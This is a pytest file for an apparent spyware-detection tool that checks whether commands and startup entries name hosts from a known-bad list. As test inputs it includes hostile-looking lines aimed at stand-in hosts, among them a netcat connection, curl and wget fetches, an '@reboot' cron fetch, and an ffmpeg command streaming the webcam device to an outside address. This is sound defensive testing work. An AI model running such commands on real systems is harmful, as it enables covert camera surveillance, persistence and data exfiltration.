"""Published domains and addresses, looked for in commands."""

import pytest

from camcheck.findings import Severity
from camcheck.signatures.hosts import as_host, hosts_in
from camcheck.signatures.rule import KnownHost
from tests.signatures.builders import a_process, a_snapshot, an_entry
from tests.signatures.test_known_bad import findings

KNOWN = {
    host: KnownHost(host, "Spy")
    for host in ("evil.example", "198.51.100.7", "run.sh", "docs.example/u/1")
}


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/a",
        "curl -s http://USER:pw@CDN.Evil.Example:8080",
        "ssh ana@evil.example",
        "nc evil.example 443",
        "ffmpeg -i /dev/video0 rtmp://198.51.100.7/live",
        "x --host=198.51.100.7:22",
        'wget "http://run.sh/x"',
    ],
)
def test_command_that_names_a_known_host_is_found(command):
    """In a URL, alone, with a port, as a part of a longer name."""
    assert list(hosts_in(command, KNOWN))


@pytest.mark.parametrize(
    "command",
    [
        "curl https://notevil.example/a",
        "curl https://evil.example.org/a",
        "vi /home/ana/evil.example/notes",
        "sh run.sh",
        "curl https://docs.example/u/2",
        "curl https://docs.example/",
        "curl https://x.docs.example/u/1",
        "python 198.51.100.70",
        "pip install x==198.51.100.7.1",
        "",
    ],
)
def test_command_that_only_looks_like_it_is_not(command):
    """Longer names, folders, and files whose name could be a host's."""
    assert [] == list(hosts_in(command, KNOWN))


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("Evil.Example.", "evil.example"),
        ("hxxp://evil[.]example/", "evil.example"),
        ("hxxp://evil[.]example/path", "evil.example/path"),
        ("*.evil.example", "evil.example"),
        ("evil.example:443", "evil.example"),
        ("198.51.100.7", "198.51.100.7"),
        ("localhost", None),
        ("com.spy.app_1", None),
        ("two words", None),
        ("", None),
    ],
)
def test_entry_of_a_list_names_a_host_or_not(text, host):
    """Entries as feeds write them, also those made harmless to click on."""
    assert host == as_host(text)


def test_program_and_start_entry_are_found_with_the_list_that_says_so():
    """One finding for each, with the host, the list and its place."""
    spy = KnownHost("evil.example", "Spy", "", "/feed/list.txt", "unknown author")
    process = a_process(exe="/usr/bin/curl", cmdline=("curl", "https://evil.example/x"))
    entry = an_entry("@reboot curl https://evil.example/y")
    found = findings(a_snapshot(process, persistence=(entry,)), hosts=(spy,))

    assert ["/etc/cron.d/x", "/usr/bin/curl"] == sorted(
        one.subject.place or one.subject.programs[0] for one in found
    )
    assert {Severity.MEDIUM} == {one.severity for one in found}
    assert all("/feed/list.txt" in one.explanation for one in found)


def test_same_program_elsewhere_is_silent():
    """Another host is nothing; neither is the list alone."""
    spy = KnownHost("evil.example", "Spy")
    process = a_process(exe="/usr/bin/curl", cmdline=("curl", "https://good.example/x"))

    assert [] == findings(a_snapshot(process), hosts=(spy,))
